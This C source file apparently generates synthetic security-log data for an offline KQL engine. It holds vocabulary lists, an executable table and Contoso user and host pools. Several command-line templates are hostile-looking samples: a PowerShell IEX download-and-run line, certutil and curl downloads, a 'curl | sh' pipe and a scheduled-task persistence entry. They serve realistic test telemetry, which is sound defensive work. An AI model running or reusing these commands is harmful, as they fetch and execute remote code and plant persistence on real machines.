/*
** 2026-11-28
** kqlite — offline KQL engine.
**
** The generator's vocabulary: word lists for enum-like columns (action
** types, severities, event ids, user agents, countries...), the table of
** well-known executables with their version info and command lines, and
** kqlGenPoolsInit(), which makes the per-seed entity pools (hosts, users,
** external sites, files) that every table of a run shares. All names are
** invented or generic (the organisation is Microsoft's fictitious Contoso).
** Lists are ordered most common first: generators pick with a skew.
*/
#include "genInt.h"
#include <stdio.h>

#define N(a) ((int)(sizeof(a)/sizeof((a)[0])))

static const char *const azWORD[] = {
  "default", "standard", "enabled", "primary", "internal", "auto", "manual",
  "none", "other", "basic", "custom", "legacy", "managed", "shared", "global",
  "local", "public", "private", "pending", "active", "inherited", "system",
  "unknown", "restricted", "trusted", "external", "scheduled", "temporary",
};
static const char *const azNAMEWORD[] = {
  "Finance", "HR", "Engineering", "Sales", "Marketing", "Operations", "Legal",
  "IT", "Security", "Support", "Research", "Facilities", "Procurement",
  "Executive", "DevOps", "Payroll", "Contoso", "Fabrikam", "Northwind",
  "Tailspin", "Litware", "Woodgrove",
};
static const char *const azACTIONTYPE_NET[] = {
  "ConnectionSuccess", "ConnectionSuccess", "ConnectionSuccess", "ConnectionFailed",
  "InboundConnectionAccepted", "ConnectionRequest", "ListeningConnectionCreated",
  "ConnectionAttempt", "ConnectionFound", "DnsConnectionInspected",
  "HttpConnectionInspected", "SslConnectionInspected", "NetworkSignatureInspected",
};
static const char *const azACTIONTYPE_PROC[] = {
  "ProcessCreated", "ProcessCreated", "ProcessCreated", "OpenProcessApiCall",
  "CreateRemoteThreadApiCall",
};
static const char *const azACTIONTYPE_FILE[] = {
  "FileCreated", "FileModified", "FileRenamed", "FileDeleted",
};
static const char *const azACTIONTYPE_LOGON[] = {
  "LogonSuccess", "LogonSuccess", "LogonFailed", "LogonAttempted",
};
static const char *const azACTIONTYPE_REG[] = {
  "RegistryValueSet", "RegistryKeyCreated", "RegistryValueDeleted",
  "RegistryKeyDeleted", "RegistryKeyRenamed",
};
static const char *const azACTIONTYPE_IMAGE[] = { "ImageLoaded" };
static const char *const azACTIONTYPE_DEV[] = {
  "AntivirusDetection", "PowerShellCommand", "ScheduledTaskCreated",
  "UsbDriveMounted", "DnsQueryResponse", "LdapSearch", "NamedPipeEvent",
  "ProcessPrimaryTokenModified", "ServiceInstalled", "UserAccountCreated",
  "BrowserLaunchedToOpenUrl", "ExploitGuardNetworkProtectionBlocked",
  "AsrOfficeChildProcessBlocked", "SmartScreenUrlWarning", "FirewallInboundConnectionBlocked",
};
static const char *const azACTIONTYPE_ID[] = {
  "LogonSuccess", "LogonFailed", "LDAP query", "SAMR query", "DNS query",
  "Account Password changed", "Group Membership changed", "Directory Services replication",
};
static const char *const azACTIONTYPE[] = {
  "Succeeded", "Created", "Updated", "Deleted", "Accessed", "Blocked", "Failed",
};
static const char *const azCEF_CLASS[] = {
  "TRAFFIC", "TRAFFIC", "THREAT", "end", "url", "SYSTEM", "CONFIG", "0",
  "106023", "302013",
};
static const char *const azCEF_ACTIVITY[] = {
  "TRAFFIC end", "TRAFFIC end", "TRAFFIC deny", "TRAFFIC drop", "THREAT url",
  "THREAT spyware", "THREAT vulnerability", "Deny tcp src outside",
  "Built outbound TCP connection", "SYSTEM general",
};
static const char *const azCEF_CATEGORY[] = {
  "traffic", "utm", "threat", "event", "url-filtering", "ips", "anti-virus",
};
static const char *const azFACILITY_CEF[] = {
  "local4", "local7", "user", "daemon", "authpriv",
};
static const char *const azSEVERITY[] = {
  "Informational", "Low", "Low", "Medium", "High",
};
static const char *const azLEVEL[] = {
  "Informational", "Informational", "Warning", "Error", "Critical",
};
static const char *const azRISK[] = { "none", "low", "medium", "high", "hidden" };
static const char *const azRESULT[] = { "Success", "Success", "Failure", "Partial" };
static const char *const azSTATUS[] = {
  "Succeeded", "Succeeded", "Failed", "Started", "Accepted", "InProgress",
};
static const char *const azSIGNIN_RESULT[] = {
  "0", "0", "0", "50126", "50074", "50140", "53003", "50053", "70044", "16000",
};
static const char *const azSIGNIN_RESULTDESC[] = {
  "", "", "", "Error validating credentials due to invalid username or password.",
  "Strong Authentication is required.",
  "This error occurred due to 'Keep me signed in' interrupt when the user was signing in.",
  "Access has been blocked by Conditional Access policies.",
  "Account is locked because user tried to sign in too many times with an incorrect user ID or password.",
  "The session is not valid due to password expiration or recent password change.",
  "Other",
};
static const char *const azCLIENTAPP[] = {
  "Browser", "Mobile Apps and Desktop clients", "Exchange ActiveSync",
  "IMAP4", "Authenticated SMTP", "Other clients",
};
static const char *const azAUTHREQ[] = {
  "singleFactorAuthentication", "multiFactorAuthentication",
};
static const char *const azCASTATUS[] = { "success", "notApplied", "failure" };
static const char *const azUSERTYPE[] = { "Member", "Member", "Member", "Guest" };
static const char *const azAUTHPROTO[] = {
  "none", "oAuth2", "ropc", "deviceCode", "saml20", "wsFederation",
};
static const char *const azAUTHMETHOD[] = {
  "Password", "Password Hash Sync", "Mobile app notification", "Windows Hello for Business",
  "FIDO2 security key", "Text message", "Previously satisfied",
};
static const char *const azOPERATION[] = {
  "Sign-in activity", "Update user", "Add member to group", "Create", "Delete",
  "Update", "Read", "List", "Login", "Logout",
};
static const char *const azOPERATION_AZ[] = {
  "Microsoft.Compute/virtualMachines/write", "Microsoft.Compute/virtualMachines/start/action",
  "Microsoft.Network/networkSecurityGroups/write", "Microsoft.Storage/storageAccounts/listKeys/action",
  "Microsoft.Authorization/roleAssignments/write", "Microsoft.KeyVault/vaults/secrets/read",
  "Microsoft.Resources/deployments/write", "Microsoft.Compute/virtualMachines/delete",
  "Microsoft.Network/publicIPAddresses/write",
};
static const char *const azOPERATION_AAD[] = {
  "Add user", "Update user", "Reset user password", "Add member to group",
  "Remove member from group", "Add app role assignment to service principal",
  "Consent to application", "Add service principal credentials", "Delete user",
  "Add member to role",
};
static const char *const azOPERATION_O365[] = {
  "FileAccessed", "MailItemsAccessed", "FileModified", "FileDownloaded",
  "UserLoggedIn", "Send", "FileUploaded", "New-InboxRule", "Set-Mailbox",
  "SharingSet", "FileDeleted", "Add-MailboxPermission",
};
static const char *const azCATEGORY[] = {
  "Administrative", "Security", "Policy", "UserManagement", "GroupManagement",
  "ApplicationManagement", "Authentication", "Alert", "Recommendation",
};
static const char *const azINTEGRITY[] = { "Medium", "Medium", "High", "System", "Low" };
static const char *const azTOKENELEV[] = {
  "TokenElevationTypeDefault", "TokenElevationTypeLimited", "TokenElevationTypeFull",
};
static const char *const azSIGNERTYPE[] = {
  "OperatingSystem", "Microsoft", "ThirdParty", "Unsigned", "AppStore",
};
static const char *const azSIGSTATUS[] = { "Valid", "Valid", "Valid", "Unsigned", "Invalid" };
static const char *const azLOGONTYPE[] = {
  "Interactive", "Network", "RemoteInteractive", "Unlock", "Service", "Batch",
  "CachedInteractive", "NewCredentials",
};
static const char *const azLOGONTYPE_N[] = { "3", "3", "2", "10", "5", "7", "4", "11", "9" };
static const char *const azHTTPSTATUS_N[] = {
  "200", "200", "200", "304", "302", "404", "401", "403", "500", "503", "201", "204",
};
static const char *const azHTTPMETHOD[] = {
  "GET", "GET", "GET", "POST", "POST", "PUT", "HEAD", "OPTIONS", "DELETE", "CONNECT",
};
static const char *const azUSERAGENT[] = {
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36",
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36 Edg/125.0.0.0",
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:126.0) Gecko/20100101 Firefox/126.0",
  "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17531; Pro)",
  "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
  "curl/8.7.1",
  "python-requests/2.32.3",
  "Microsoft-CryptoAPI/10.0",
  "Go-http-client/1.1",
  "PowerShell/7.4.2",
  "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; Trident/6.0)",
};
static const char *const azCOUNTRY[] = {
  "US", "US", "GB", "DE", "FR", "NL", "IE", "CA", "IN", "JP", "AU", "BR",
  "SG", "SE", "CH", "RU", "CN", "UA", "PL", "ES",
};
static const char *const azCITY[] = {
  "Seattle", "Redmond", "New York", "London", "Dublin", "Amsterdam", "Frankfurt",
  "Paris", "Toronto", "Bengaluru", "Tokyo", "Sydney", "São Paulo", "Singapore",
  "Stockholm", "Zürich", "Moscow", "Beijing", "Kyiv", "Warsaw", "Madrid",
};
static const char *const azREGION[] = {
  "eastus", "westeurope", "westus2", "northeurope", "uksouth", "eastus2",
  "centralus", "southeastasia", "germanywestcentral", "japaneast",
};
static const char *const azRESGROUP[] = {
  "rg-prod-web", "rg-prod-data", "rg-shared-network", "rg-identity", "rg-dev-sandbox",
  "rg-security", "rg-backup",
};
static const char *const azMACHINEGROUP[] = {
  "Workstations", "Workstations", "Servers", "Domain Controllers", "UnassignedGroup",
};
static const char *const azSYSLOG_FAC[] = {
  "authpriv", "auth", "daemon", "syslog", "kern", "cron", "user", "local0", "local4",
};
static const char *const azSYSLOG_SEV[] = {
  "info", "info", "notice", "warning", "err", "debug", "crit", "alert", "emerg",
};
static const char *const azSYSLOG_PROC[] = {
  "sshd", "sudo", "CRON", "systemd", "kernel", "dhclient", "rsyslogd", "auditd",
  "nginx", "postfix/smtpd", "su", "systemd-logind",
};
static const char *const azDNSTYPE[] = { "A", "A", "AAAA", "CNAME", "PTR", "MX", "TXT", "SRV", "NS", "SOA" };
static const char *const azDNSTYPE_N[] = { "1", "1", "28", "5", "12", "15", "16", "33", "2", "6" };
static const char *const azDNSRCODE[] = { "NOERROR", "NOERROR", "NOERROR", "NXDOMAIN", "SERVFAIL", "REFUSED" };
static const char *const azDNSRCODE_N[] = { "0", "0", "0", "3", "2", "5" };
static const char *const azREGKEY[] = {
  "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
  "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
  "HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\bam\\State\\UserSettings",
  "HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender",
  "HKEY_CURRENT_USER\\Software\\Microsoft\\Office\\16.0\\Outlook\\Profiles",
  "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\Tcpip\\Parameters",
  "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon",
  "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\Shell Folders",
  "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\Lsa",
  "HKEY_CURRENT_USER\\Software\\Classes\\ms-settings\\shell\\open\\command",
};
static const char *const azREGVALNAME[] = {
  "OneDrive", "SecurityHealth", "DisableAntiSpyware", "Userinit", "Shell",
  "EnableLUA", "Hostname", "RunAsPPL", "(Default)", "Updater",
};
static const char *const azREGVALTYPE[] = { "String", "Dword", "ExpandString", "Binary", "MultiString", "Qword" };
static const char *const azTACTIC[] = {
  "InitialAccess", "Execution", "Persistence", "PrivilegeEscalation", "DefenseEvasion",
  "CredentialAccess", "Discovery", "LateralMovement", "Collection", "CommandAndControl",
  "Exfiltration", "Impact",
};
static const char *const azTECHNIQUE[] = {
  "T1059", "T1059.001", "T1078", "T1566", "T1566.001", "T1053.005", "T1547.001",
  "T1071.001", "T1003.001", "T1021.001", "T1105", "T1110", "T1486", "T1027", "T1082",
};
static const char *const azALERTNAME[] = {
  "Suspicious PowerShell command line", "Possible credential dumping",
  "Connection to a known command-and-control server", "Multiple failed sign-in attempts",
  "Suspicious inbox forwarding rule", "Ransomware behavior detected",
  "Anomalous token usage", "Malicious URL clicked", "Unusual volume of file deletion",
  "Impossible travel activity",
};
static const char *const azTHREATTYPE[] = {
  "Botnet", "C2", "Malware", "Phishing", "Proxy", "Scanner", "Tor", "CryptoMining",
};
static const char *const azCONFIDENCE[] = { "High", "Medium", "Low", "Unknown" };
static const char *const azFILETYPE[] = { "exe", "dll", "pdf", "docx", "xlsx", "zip", "ps1", "js", "lnk" };
static const char *const azMIMETYPE[] = {
  "text/html", "application/json", "application/octet-stream", "image/png",
  "application/pdf", "text/plain", "application/zip",
};
static const char *const azLABEL[] = {
  "Rule", "Virtual System", "Source Zone", "Destination Zone", "Policy ID",
  "Threat ID", "URL Category", "Session ID", "Signature", "Interface", "Tunnel",
  "Application Risk", "Content Type", "Packets Received", "Packets Sent",
};
static const char *const azSERVICE[] = {
  "Spooler", "wuauserv", "WinDefend", "BITS", "Schedule", "LanmanServer",
  "TermService", "MSSQLSERVER", "W3SVC", "RemoteRegistry", "PSEXESVC",
};
static const char *const azSOURCESYS[] = { "OpsManager", "Azure" };
static const char *const azCEF_LOGSEV[] = { "3", "3", "1", "5", "7", "8", "2", "10", "0" };
static const char *const azAWS_EVENT[] = {
  "ConsoleLogin", "AssumeRole", "GetObject", "PutObject", "DescribeInstances",
  "CreateAccessKey", "AuthorizeSecurityGroupIngress", "StopLogging", "ListBuckets",
};
static const char *const azGCP_METHOD[] = {
  "google.iam.admin.v1.CreateServiceAccountKey", "storage.objects.get",
  "v1.compute.instances.insert", "SetIamPolicy", "google.login.LoginService.loginSuccess",
};
static const char *const azK8S_VERB[] = { "get", "list", "watch", "create", "update", "patch", "delete" };
static const char *const azDIRECTION[] = { "Outbound", "Inbound", "Local" };
static const char *const azOSPLATFORM[] = {
  "Windows11", "Windows11", "Windows10", "WindowsServer2022", "WindowsServer2019", "Linux", "macOS",
};
static const char *const azOSVERSION[] = {
  "10.0.22631", "10.0.22631", "10.0.19045", "10.0.20348", "10.0.17763", "6.8.0", "14.5",
};
static const char *const azAPPNAME[] = {
  "Microsoft Office 365 Portal", "Office 365 Exchange Online", "Microsoft Teams",
  "Azure Portal", "OfficeHome", "Microsoft Authentication Broker", "SharePoint Online Web Client Extensibility",
  "Windows Sign In", "Microsoft Azure CLI", "Salesforce", "Zoom", "Slack",
};
static const char *const azEMAILSUBJECT[] = {
  "Quarterly results", "Re: meeting notes", "Invoice #4471 overdue", "Your password expires today",
  "Shared document: budget.xlsx", "Action required: verify your account", "Weekly status",
  "Fwd: contract draft", "Lunch on Friday?", "Payment confirmation",
};
static const char *const azDELIVERY[] = {
  "Delivered", "Delivered", "Delivered", "Junked", "Blocked", "Replaced",
};
static const char *const azBOOLWORD[] = { "True", "False" };
static const char *const azEXTRAKEY[] = {
  "direction", "Host", "Uri", "Port", "IsLocalLogon", "ProcessId", "Command",
  "Protocol", "Count", "Result", "Reason", "Name",
};

static const char *const azIFACE[] = {
  "ethernet1/1", "ethernet1/2", "port1", "wan1", "inside", "outside", "ae1.100",
};
static const char *const azACCOUNTTYPE[] = { "User", "User", "Machine" };
static const char *const azALERTPRODUCT[] = {
  "Microsoft Defender for Endpoint", "Microsoft Defender for Cloud",
  "Azure Active Directory Identity Protection", "Microsoft Sentinel",
  "Microsoft Defender for Office 365", "Microsoft Defender for Identity",
};
static const char *const azRISKSTATE[] = {
  "none", "none", "atRisk", "remediated", "dismissed", "confirmedCompromised",
};
static const char *const azRISKDETAIL[] = {
  "none", "none", "userPassedMFADrivenByRiskBasedPolicy", "adminConfirmedSigninSafe",
  "adminDismissedAllRiskForUser", "userPerformedSecuredPasswordReset",
};
static const char *const azCASTATUS_N[] = { "0", "1", "2" };
static const char *const azIPTYPE[] = { "Public", "Public", "Private", "Loopback", "LinkLocal" };
static const char *const azTOKENISSUER[] = { "AzureAD", "AzureAD", "ADFederationServices" };

static const KqlGenList aList[] = {
#define L(E) { az##E, N(az##E) },
  KQL_GEN_LISTS
#undef L
};

const KqlGenList *kqlGenList(int eList){
  if( eList<0 || eList>=KQL_L_COUNT ) eList = KQL_L_WORD;
  return &aList[eList];
}

/* The executables. Command-line templates: %p full path, %n file name,
** %u user, %h host, %d external domain, %i public address, %r random hex,
** %f a document name. */
static const KqlGenExe aExe[] = {
  { "svchost.exe", "C:\\Windows\\System32\\", "Microsoft Corporation", "Microsoft® Windows® Operating System",
    "Host Process for Windows Services", "10.0.22621.3527",
    { "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
      "C:\\Windows\\System32\\svchost.exe -k NetworkService -p",
      "C:\\Windows\\system32\\svchost.exe -k LocalServiceNetworkRestricted -p" }, 30, 1 },
  { "chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application\\", "Google LLC", "Google Chrome",
    "Google Chrome", "125.0.6422.113",
    { "\"%p\" --type=renderer --lang=en-US", "\"%p\" https://%d/", "\"%p\"" }, 25, 1 },
  { "msedge.exe", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\", "Microsoft Corporation",
    "Microsoft Edge", "Microsoft Edge", "125.0.2535.67",
    { "\"%p\" --single-argument https://%d/", "\"%p\" --type=utility", "\"%p\"" }, 18, 1 },
  { "powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\", "Microsoft Corporation",
    "Microsoft® Windows® Operating System", "Windows PowerShell", "10.0.22621.3085",
    { "powershell.exe -NoProfile -ExecutionPolicy Bypass -File \"C:\\Users\\%u\\AppData\\Local\\Temp\\%r.ps1\"",
      "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://%i/a')\"",
      "\"powershell.exe\" Get-Service | Where-Object {$_.Status -eq 'Running'}" }, 8, 1 },
  { "cmd.exe", "C:\\Windows\\System32\\", "Microsoft Corporation", "Microsoft® Windows® Operating System",
    "Windows Command Processor", "10.0.22621.3235",
    { "cmd.exe /c whoami /all", "\"cmd.exe\" /c ipconfig /all", "cmd.exe /c \"net group \"Domain Admins\" /domain\"" }, 10, 1 },
  { "explorer.exe", "C:\\Windows\\", "Microsoft Corporation", "Microsoft® Windows® Operating System",
    "Windows Explorer", "10.0.22621.3527", { "C:\\Windows\\Explorer.EXE", "explorer.exe", 0 }, 12, 1 },
  { "OUTLOOK.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16\\", "Microsoft Corporation",
    "Microsoft Outlook", "Microsoft Outlook", "16.0.17531.20152",
    { "\"%p\" ", "\"%p\" /recycle", 0 }, 10, 1 },
  { "WINWORD.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16\\", "Microsoft Corporation",
    "Microsoft Office", "Microsoft Word", "16.0.17531.20152",
    { "\"%p\" /n \"C:\\Users\\%u\\Downloads\\%f\"", "\"%p\" /n", 0 }, 6, 1 },
  { "Teams.exe", "C:\\Users\\%u\\AppData\\Local\\Microsoft\\Teams\\current\\", "Microsoft Corporation",
    "Microsoft Teams", "Microsoft Teams", "1.7.00.13456",
    { "\"%p\" --process-start-args \"--system-initiated\"", "\"%p\"", 0 }, 9, 0 },
  { "OneDrive.exe", "C:\\Users\\%u\\AppData\\Local\\Microsoft\\OneDrive\\", "Microsoft Corporation",
    "Microsoft OneDrive", "Microsoft OneDrive", "24.086.0428.0003",
    { "\"%p\" /background", "\"%p\"", 0 }, 8, 0 },
  { "MsMpEng.exe", "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24040.4-0\\",
    "Microsoft Corporation", "Microsoft® Windows® Operating System", "Antimalware Service Executable",
    "4.18.24040.4", { "\"%p\"", 0, 0 }, 8, 0 },
  { "lsass.exe", "C:\\Windows\\System32\\", "Microsoft Corporation", "Microsoft® Windows® Operating System",
    "Local Security Authority Process", "10.0.22621.3527", { "C:\\Windows\\system32\\lsass.exe", 0, 0 }, 4, 0 },
  { "services.exe", "C:\\Windows\\System32\\", "Microsoft Corporation", "Microsoft® Windows® Operating System",
    "Services and Controller app", "10.0.22621.3527", { "C:\\Windows\\system32\\services.exe", 0, 0 }, 3, 1 },
  { "wmiprvse.exe", "C:\\Windows\\System32\\wbem\\", "Microsoft Corporation", "Microsoft® Windows® Operating System",
    "WMI Provider Host", "10.0.22621.1", { "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", 0, 0 }, 4, 1 },
  { "rundll32.exe", "C:\\Windows\\System32\\", "Microsoft Corporation", "Microsoft® Windows® Operating System",
    "Windows host process (Rundll32)", "10.0.22621.1",
    { "rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL", "rundll32.exe \"C:\\Users\\%u\\AppData\\Roaming\\%r.dll\",DllRegisterServer", 0 }, 3, 0 },
  { "schtasks.exe", "C:\\Windows\\System32\\", "Microsoft Corporation", "Microsoft® Windows® Operating System",
    "Task Scheduler Configuration Tool", "10.0.22621.1",
    { "schtasks.exe /create /tn \"Updater\" /tr \"C:\\Users\\Public\\%r.exe\" /sc onlogon", "schtasks.exe /query /fo LIST", 0 }, 2, 0 },
  { "curl.exe", "C:\\Windows\\System32\\", "curl, https://curl.se/", "The curl executable", "The curl executable",
    "8.4.0", { "curl.exe -s https://%d/api/v1/status", "curl.exe -o C:\\Users\\Public\\%r.bin http://%i/", 0 }, 2, 0 },
  { "certutil.exe", "C:\\Windows\\System32\\", "Microsoft Corporation", "Microsoft® Windows® Operating System",
    "CertUtil.exe", "10.0.22621.1", { "certutil.exe -urlcache -split -f http://%i/%r.txt", "certutil.exe -verify cert.cer", 0 }, 1, 0 },
  { "AudioDriver.exe", "C:\\Users\\%u\\AppData\\Roaming\\AudioDriver\\", "", "", "", "1.0.0.0",
    { "\"%p\"", "\"%p\" --silent", 0 }, 1, 0 },
  { "sqlservr.exe", "C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn\\",
    "Microsoft Corporation", "Microsoft SQL Server", "SQL Server Windows NT - 64 Bit", "2022.160.4125.3",
    { "\"%p\" -sMSSQLSERVER", 0, 0 }, 3, 0 },
  { "w3wp.exe", "C:\\Windows\\System32\\inetsrv\\", "Microsoft Corporation", "Internet Information Services",
    "IIS Worker Process", "10.0.22621.1", { "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"DefaultAppPool\"", 0, 0 }, 3, 1 },
  { "bash", "/usr/bin/", "", "", "", "5.2.21", { "/bin/bash -c \"curl -s https://%d/ | sh\"", "-bash", "bash /opt/scripts/backup.sh" }, 4, 1 },
  { "python3", "/usr/bin/", "", "", "", "3.12.3", { "python3 /opt/app/worker.py --queue default", "python3 -c \"import socket\"", 0 }, 3, 0 },
  { "sshd", "/usr/sbin/", "", "", "", "9.6p1", { "sshd: %u [priv]", "/usr/sbin/sshd -D", 0 }, 3, 1 },
};

const KqlGenExe *kqlGenExeAt(int i){
  if( i<0 || i>=N(aExe) ) i = 0;
  return &aExe[i];
}

int kqlGenExeCount(void){
  return N(aExe);
}

static const char *const azFirst[] = {
  "John", "Mary", "Ahmed", "Li", "Sofia", "Lukas", "Priya", "Carlos", "Emma", "Noah",
  "Olivia", "Liam", "Aiko", "Mateo", "Fatima", "Jürgen", "Chloé", "Ivan", "Grace",
  "Omar", "Hannah", "Diego", "Anna", "Kofi", "Isabel", "Wei", "Sara", "Tom", "Nina", "Raj",
};
static const char *const azLast[] = {
  "Doe", "Smith", "Khan", "Wang", "Rossi", "Müller", "Patel", "Garcia", "Brown", "Jones",
  "Nguyen", "Kim", "Tanaka", "Silva", "Cohen", "Novak", "Dubois", "Ivanova", "Okafor",
  "Larsen", "Schmidt", "Lopez", "Meyer", "Walsh", "Costa", "Chen", "Haddad", "Berg",
};
static const char *const azSvc[] = {
  "svc_backup", "svc_sql", "svc_web", "svc_scan", "svc_adsync", "administrator", "svc_app",
};
static const char *const azServer[] = {
  "DC01", "DC02", "SRV-DB01", "SRV-DB02", "SRV-WEB01", "SRV-WEB02", "SRV-FS01", "SRV-APP01",
  "SRV-EXCH01", "SRV-SQL02", "SRV-BKP01", "SRV-PRINT01", "SRV-CA01", "SRV-JUMP01",
};
static const char *const azLinux[] = {
  "lnx-web-01", "lnx-web-02", "lnx-app-01", "lnx-db-01", "lnx-k8s-node-1", "lnx-bastion",
};
static const char *const azWellKnown[] = {
  "login.microsoftonline.com", "outlook.office365.com", "www.google.com", "github.com",
  "teams.microsoft.com", "graph.microsoft.com", "cdn.jsdelivr.net", "www.bing.com",
  "update.googleapis.com", "settings-win.data.microsoft.com", "slack.com", "zoom.us",
  "stackoverflow.com", "www.linkedin.com", "s3.amazonaws.com", "api.github.com",
  "ocsp.digicert.com", "ctldl.windowsupdate.com", "dropbox.com", "pastebin.com",
};
static const char *const azSiteWord[] = {
  "cloud", "data", "secure", "portal", "cdn", "media", "shop", "news", "mail", "app",
  "sync", "track", "files", "stat", "edge", "static", "login", "update", "web", "net",
};
static const char *const azTld[] = { "com", "net", "io", "org", "co", "info", "xyz", "top", "ru", "cn" };
static const char *const azDocWord[] = {
  "invoice", "budget", "report", "contract", "payroll", "roadmap", "minutes", "resume",
  "proposal", "statement", "policy", "summary", "forecast", "inventory", "notes",
};
static const char *const azDocExt[] = { ".docx", ".xlsx", ".pdf", ".pptx", ".zip", ".txt", ".csv", ".lnk", ".js", ".iso" };
static const char *const azDocFolder[] = {
  "C:\\Users\\%u\\Documents\\", "C:\\Users\\%u\\Downloads\\", "C:\\Users\\%u\\Desktop\\",
  "C:\\Users\\%u\\AppData\\Local\\Temp\\", "\\\\SRV-FS01\\Shares\\Finance\\", "C:\\Users\\Public\\",
};

/* Lower-case ASCII version of z into zOut (UTF-8 letters folded to ASCII
** for the few accented names we use). */
static void asciiLower(char *zOut, int nOut, const char *z){
  int j = 0;
  for(int i=0; z[i] && j<nOut-1; i++){
    unsigned char c = (unsigned char)z[i];
    if( c==0xC3 && z[i+1] ){
      unsigned char d = (unsigned char)z[++i];
      char r = 'x';
      if( d==0xBC || d==0x9C ) r = 'u';        /* ü Ü */
      else if( d==0xA9 || d==0xA8 ) r = 'e';   /* é è */
      else if( d==0xB6 ) r = 'o';              /* ö */
      else if( d==0xA4 ) r = 'a';              /* ä */
      zOut[j++] = r;
    }else if( c>='A' && c<='Z' ){
      zOut[j++] = (char)(c + 32);
    }else if( c<0x80 ){
      zOut[j++] = (char)c;
    }
  }
  zOut[j] = 0;
}

/* Is zName already the sam name of one of a[0..n)? */
static int samTaken(const KqlGenUser *a, int n, const char *zName){
  for(int i=0; i<n; i++) if( strcmp(a[i].zSam, zName)==0 ) return 1;
  return 0;
}

static void initUsers(KqlGenPools *p, KqlGenRng *r){
  int nSvc = N(azSvc);
  for(int i=0; i<KQL_GEN_NUSER; i++){
    KqlGenUser *u = &p->aUser[i];
    u->iRid = 1104 + i*3 + (int)kqlGenBelow(r, 3);
    u->iId = kqlGenRand(r);
    if( i>=KQL_GEN_NUSER-nSvc ){
      const char *z = azSvc[i-(KQL_GEN_NUSER-nSvc)];
      snprintf(u->zSam, sizeof(u->zSam), "%s", z);
      snprintf(u->zDisplay, sizeof(u->zDisplay), "%s", z);
      snprintf(u->zUpn, sizeof(u->zUpn), "%s@contoso.com", z);
      if( strcmp(z, "administrator")==0 ) u->iRid = 500;
      continue;
    }
    for(int nTry=0; ; nTry++){
      const char *zF = azFirst[kqlGenBelow(r, N(azFirst))];
      const char *zL = azLast[kqlGenBelow(r, N(azLast))];
      char zf[16], zl[16], zSam[24], zNum[8] = "";
      asciiLower(zf, sizeof(zf), zF);
      asciiLower(zl, sizeof(zl), zL);
      if( nTry>=4 ) snprintf(zNum, sizeof(zNum), "%u", (unsigned)(nTry % 1000));
      snprintf(zSam, sizeof(zSam), "%c%.10s%.4s", zf[0], zl, zNum);
      if( samTaken(p->aUser, i, zSam) ) continue;
      snprintf(u->zSam, sizeof(u->zSam), "%s", zSam);
      snprintf(u->zDisplay, sizeof(u->zDisplay), "%.20s %.20s", zF, zL);
      snprintf(u->zUpn, sizeof(u->zUpn), "%.15s.%.15s%s@contoso.com", zf, zl, zNum);
      break;
    }
  }
}

static void initHosts(KqlGenPools *p, KqlGenRng *r){
  int nSrv = N(azServer), nLnx = N(azLinux);
  int nWs = KQL_GEN_NHOST - nSrv - nLnx;
  int aUsed[KQL_GEN_NHOST];
  p->iLinux0 = nWs + nSrv;
  p->nLinux = nLnx;
  for(int i=0; i<KQL_GEN_NHOST; i++){
    KqlGenHost *h = &p->aHost[i];
    h->iId = kqlGenRand(r);
    if( i<nWs ){
      int v;
      for(;;){
        v = 1000 + (int)kqlGenBelow(r, 9000);
        int bDup = 0;
        for(int j=0; j<i; j++) if( aUsed[j]==v ){ bDup = 1; break; }
        if( !bDup ) break;
      }
      aUsed[i] = v;
      snprintf(h->zName, sizeof(h->zName), "WS-%04d", v);
      h->ip = (10u<<24) | (20u<<16) | ((uint32_t)(1 + i/200)<<8) | (uint32_t)(10 + i%200);
      h->eOs = kqlGenBelow(r, 4)==0 ? 2 : 0;
    }else if( i<nWs+nSrv ){
      aUsed[i] = -1;
      snprintf(h->zName, sizeof(h->zName), "%s", azServer[i-nWs]);
      h->ip = (10u<<24) | (10u<<16) | (uint32_t)(10 + (i-nWs));
      h->eOs = (i-nWs)%3==0 ? 4 : 3;
    }else{
      aUsed[i] = -1;
      snprintf(h->zName, sizeof(h->zName), "%s", azLinux[i-nWs-nSrv]);
      h->ip = (10u<<24) | (30u<<16) | (uint32_t)(20 + (i-nWs-nSrv));
      h->eOs = 5;
    }
    char zLow[24];
    asciiLower(zLow, sizeof(zLow), h->zName);
    snprintf(h->zFqdn, sizeof(h->zFqdn), "%s.contoso.local", zLow);
  }
}

